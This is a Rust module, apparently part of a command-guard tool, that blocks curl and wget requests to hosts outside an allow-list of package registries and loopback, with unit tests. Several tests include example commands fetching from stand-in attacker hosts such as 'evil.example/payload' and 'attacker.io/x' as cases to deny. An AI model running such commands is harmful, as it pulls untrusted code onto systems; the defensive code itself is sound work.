//! Network fence: curl/wget may only reach allow-listed hosts.

use crate::decision::Decision;
use once_cell::sync::Lazy;
use regex::Regex;

static URL: Lazy<Regex> = Lazy::new(|| Regex::new(r#"https?://[^\s"']+"#).unwrap());

/// Package registries, source hosts and loopback.
pub const DEFAULT_ALLOWED_HOSTS: &[&str] = &[
    "localhost",
    "127.0.0.1",
    "::1",
    "github.com",
    "api.github.com",
    "raw.githubusercontent.com",
    "registry.npmjs.org",
    "npmjs.com",
    "pypi.org",
    "files.pythonhosted.org",
    "pkg.go.dev",
    "proxy.golang.org",
    "sum.golang.org",
    "hub.docker.com",
    "registry.hub.docker.com",
    "docker.io",
    "ghcr.io",
    "crates.io",
    "rubygems.org",
    "repo.maven.apache.org",
    "dl.google.com",
    "storage.googleapis.com",
    "releases.hashicorp.com",
];

/// Hostname of an `http(s)://` URL: no scheme, userinfo, port or brackets, lower-cased.
pub fn extract_hostname(url: &str) -> Option<String> {
    let rest = url.split_once("://").map(|(_, r)| r)?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);

    let host = if let Some(bracketed) = host_port.strip_prefix('[') {
        bracketed.split_once(']').map(|(h, _)| h)?
    } else {
        host_port.split(':').next().unwrap_or("")
    };

    if host.is_empty() {
        None
    } else {
        Some(host.to_ascii_lowercase())
    }
}

/// True if `host` equals, or is a subdomain of, any entry. Entries compare case-insensitively.
pub fn is_host_allowed<S: AsRef<str>>(host: &str, allowed: &[S]) -> bool {
    allowed.iter().any(|entry| {
        let entry = entry.as_ref().to_ascii_lowercase();
        host == entry
            || host
                .strip_suffix(entry.as_str())
                .is_some_and(|prefix| prefix.ends_with('.'))
    })
}

/// Check every URL in a curl/wget command. A non-empty `custom` list replaces the built-in one.
pub fn check_network(command: &str, custom: &[String]) -> Decision {
    if !command.contains("curl") && !command.contains("wget") {
        return Decision::allow();
    }

    for url in URL.find_iter(command) {
        let Some(host) = extract_hostname(url.as_str()) else {
            continue;
        };
        let allowed = if custom.is_empty() {
            is_host_allowed(&host, DEFAULT_ALLOWED_HOSTS)
        } else {
            is_host_allowed(&host, custom)
        };
        if !allowed {
            return Decision::deny(
                "network.host",
                format!("Blocked: network request to non-allowlisted host: {host}"),
            );
        }
    }

    Decision::allow()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_extract_hostname() {
        assert_eq!(extract_hostname("https://github.com/a/b").as_deref(), Some("github.com"));
        assert_eq!(
            extract_hostname("http://user:pw@Example.COM:8080/x?q=1").as_deref(),
            Some("example.com")
        );
        assert_eq!(extract_hostname("http://[::1]:3000/").as_deref(), Some("::1"));
        assert_eq!(extract_hostname("https://pypi.org?x").as_deref(), Some("pypi.org"));
        assert_eq!(extract_hostname("https:///path"), None);
    }

    #[test]
    fn test_subdomain_matching() {
        assert!(is_host_allowed("api.github.com", &["github.com"]));
        assert!(is_host_allowed("github.com", &["github.com"]));
        assert!(!is_host_allowed("evilgithub.com", &["github.com"]));
        assert!(!is_host_allowed("github.com.evil.io", &["github.com"]));
    }

    #[test]
    fn test_default_list() {
        let tarball = "curl -sSL https://github.com/org/repo/archive.tar.gz";
        assert!(!check_network(tarball, &[]).is_denied());
        assert!(!check_network("wget http://localhost:8080/health", &[]).is_denied());
        let d = check_network("curl https://evil.example/payload", &[]);
        assert!(d.is_denied());
        assert_eq!(d.reason(), "Blocked: network request to non-allowlisted host: evil.example");
    }

    #[test]
    fn test_one_bad_host_denies_whole_command() {
        let cmd = "curl https://pypi.org/simple && curl https://attacker.io/x";
        assert!(check_network(cmd, &[]).is_denied());
    }

    #[test]
    fn test_custom_list_overrides_builtin() {
        let custom = vec!["internal.corp".to_string()];
        assert!(!check_network("curl https://api.internal.corp/v1", &custom).is_denied());
        assert!(check_network("curl https://github.com", &custom).is_denied());
    }

    #[test]
    fn test_custom_entries_ignore_case() {
        let custom = vec!["GitHub.com".to_string()];
        assert!(is_host_allowed("github.com", &custom));
        assert!(!check_network("curl https://API.GITHUB.COM/repos", &custom).is_denied());
    }

    #[test]
    fn test_non_network_commands_pass() {
        assert!(!check_network("echo https://evil.example", &[]).is_denied());
        assert!(!check_network("curl --version", &[]).is_denied());
    }
}
